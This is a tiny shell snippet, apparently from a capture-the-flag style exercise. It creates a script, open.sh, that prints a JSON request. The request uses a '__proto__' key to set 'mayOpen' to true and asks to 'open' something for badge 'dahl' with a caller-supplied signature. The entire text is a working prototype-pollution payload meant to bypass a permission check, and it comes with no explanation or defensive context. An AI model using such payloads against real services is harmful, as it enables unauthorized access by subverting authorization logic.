cat > open.sh <<'S'
printf '{"ship":{"__proto__":{"mayOpen":true}},"requests":[{"badge":"dahl","act":"open","signature":"%s"}]}' "$1"
S
echo open.sh
